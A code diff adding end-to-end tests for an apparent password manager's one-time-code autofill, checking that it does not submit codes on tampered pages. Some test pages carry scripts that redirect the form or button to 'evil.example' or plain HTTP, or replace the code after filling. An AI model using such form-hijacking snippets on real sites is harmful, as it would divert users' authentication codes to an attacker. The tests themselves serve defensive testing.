@@ -204,6 +204,105 @@ describe('sending the form', () => {
   });
 });
 
+describe('sending, on pages that make it hard', () => {
+  const NAMED = 'https://example.com';
+  const FIELD = '<label>One-time code <input id="x" name="otp" autocomplete="one-time-code"></label>';
+
+  /** A page under a real name, filled by its offer with the switch on; what it asked of any server, and what it tells. */
+  async function fillAndWait(body: string, script = ''): Promise<{ requests: string[]; told: string; url: string }> {
+    await journey.share({ user: `${crypto.randomUUID()}@example.com`, links: [NAMED] });
+    await journey.ask('changeSite', { origin: NAMED, change: { submits: true } });
+    const page = await journey.browser.newPage();
+    const requests: string[] = [];
+    await page.route(/^https:/, (route) => {
+      const { pathname, host } = new URL(route.request().url());
+      requests.push(`${route.request().method()} ${host}${pathname}`);
+      const html = `<!doctype html><title>Sign in</title><h1>Two-factor authentication</h1>${body}<script>${script}</script>`;
+      return route.fulfill({ contentType: 'text/html', body: html });
+    });
+    await page.goto(`${NAMED}/login`);
+    requests.length = 0;
+    const field = page.locator('#x');
+    await acceptOffer(page, field);
+    await waitUntil(
+      'a filled or sent code',
+      async () => requests.length > 0 || /^\d{6}$/.test(await field.inputValue()),
+    );
+    await pause(SENDING_TIME);
+    return { requests, told: await page.title(), url: page.url() };
+  }
+
+  test('without a form, Enter is pressed in the field', async () => {
+    const script =
+      'x.addEventListener("keydown", ({ key }) => { if (key === "Enter") document.title = x.value.length });';
+    expect(await fillAndWait(FIELD, script)).toMatchObject({ told: '6', requests: [] });
+  });
+
+  test('the button is pressed once, as Enter would', async () => {
+    const body = `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`;
+    const script = 'let n = 0; f.onsubmit = (event) => { event.preventDefault(); document.title = ++n; }';
+    expect(await fillAndWait(body, script)).toMatchObject({ told: '1', requests: [] });
+  });
+
+  test('a form without a button goes by POST alone: else the code would stand in the address', async () => {
+    expect((await fillAndWait(`<form action="/in" method="post">${FIELD}</form>`)).requests).toEqual([
+      'POST example.com/in',
+    ]);
+    await journey.removeAccounts();
+    expect(await fillAndWait(`<form action="/in">${FIELD}</form>`)).toMatchObject({
+      requests: [],
+      url: `${NAMED}/login`,
+    });
+  });
+
+  test('a form whose fields have the names of its methods is sent all the same', async () => {
+    const body = `<form action="/in" method="post"><input type="hidden" name="requestSubmit"><input type="hidden" name="submit"><input type="hidden" name="method"><input type="hidden" name="elements">${FIELD}</form>`;
+    expect((await fillAndWait(body)).requests).toEqual(['POST example.com/in']);
+  });
+
+  test.each<[string, string, string]>([
+    [
+      'that is led to another site after the fill',
+      `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`,
+      'x.oninput = () => { f.action = "https://evil.example/in"; };',
+    ],
+    [
+      'whose button is led to another site',
+      `<form action="/in" method="post">${FIELD}<button id="b">Verify</button></form>`,
+      'x.oninput = () => { b.setAttribute("formaction", "https://evil.example/in"); };',
+    ],
+    [
+      'that is led to where nothing is encrypted',
+      `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`,
+      'x.oninput = () => { f.action = "http://example.com/in"; };',
+    ],
+    [
+      'whose field was exchanged',
+      `<form action="/in" method="post">${FIELD}<button>Verify</button></form>`,
+      'x.oninput = () => setTimeout(() => { const y = x.cloneNode(); y.value = x.value; x.replaceWith(y); }, 100);',
+    ],
+    [
+      'whose code was changed',
+      `<form action="/in" method="post">${FIELD}<button>Verify</button></form>`,
+      'x.oninput = () => setTimeout(() => { x.value = "111111"; }, 200);',
+    ],
+    [
+      'whose button is switched off',
+      `<form action="/in" method="post">${FIELD}<button disabled>Verify</button></form>`,
+      '',
+    ],
+  ])('a form is not sent %s', async (_name, body, script) => {
+    expect((await fillAndWait(body, script)).requests).toEqual([]);
+  });
+
+  test('a page that asks its server by itself is left alone', async () => {
+    const body = `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`;
+    const script =
+      'f.onsubmit = () => { document.title = "sent" }; x.oninput = () => fetch("/verify", { method: "POST" });';
+    expect(await fillAndWait(body, script)).toMatchObject({ told: 'Sign in', requests: ['POST example.com/verify'] });
+  });
+});
+
 describe('password and code in one field', () => {
   test('the password stays and the code comes after it; without a password the popup says so', async () => {
     const user = await shareUser('joint@example.com');
